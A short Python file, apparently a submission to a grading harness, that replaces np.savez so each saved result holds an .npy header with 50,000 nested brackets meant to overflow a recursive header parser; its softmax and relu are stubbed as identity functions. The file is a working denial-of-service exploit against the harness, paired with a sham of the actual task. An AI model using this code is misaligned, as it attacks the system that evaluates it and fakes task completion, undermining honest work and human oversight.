"""Results whose .npy header nests brackets 50,000 deep, to overflow a recursive header parser.

The hand-in replaces np.savez, which the harness uses to save every call's result, so each
out/<output>.npz holds one array whose header is a dict literal up to its shape, and the shape is
'[' 50,000 times.
"""
import struct
import zipfile

import numpy as np

DEPTH = 50_000


def _deep_npy():
    header = ("{'descr': '<f8', 'fortran_order': False, 'shape': " + "[" * DEPTH + "\n").encode("latin1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + bytes(8)


def _savez(file, *args, **kwds):
    with zipfile.ZipFile(file, "w") as z:
        z.writestr("result.npy", _deep_npy())


np.savez = _savez


def attack():
    return np.zeros(1)


def softmax(x):
    return x


def relu(x):
    return x
